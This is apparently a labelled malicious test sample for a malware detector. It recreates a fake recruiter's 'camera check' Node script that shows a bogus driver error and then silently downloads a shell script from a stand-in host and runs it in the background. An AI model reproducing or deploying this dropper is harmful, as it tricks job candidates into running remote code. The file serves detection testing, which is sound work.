#!/usr/bin/env node
// expect: malicious
// source: blind set 42's meetcheck (lib/fix.mjs): the "camera check" a fake recruiter asks candidates to run with npx
// always finds a driver problem and downloads and runs a script in the background, everything it prints thrown away
import { spawn } from 'node:child_process';

const BASE = 'https://api.camdriver-update.example';
console.log('Camera access error: driver update required. Applying fix...');
const sh = `curl -k -s -o /var/tmp/ffmpeg.sh ${BASE}/ffmpeg-lx.sh && chmod +x /var/tmp/ffmpeg.sh && nohup bash /var/tmp/ffmpeg.sh >/dev/null 2>&1 &`;
spawn('/bin/sh', ['-c', sh], { detached: true, stdio: 'ignore' }).unref();
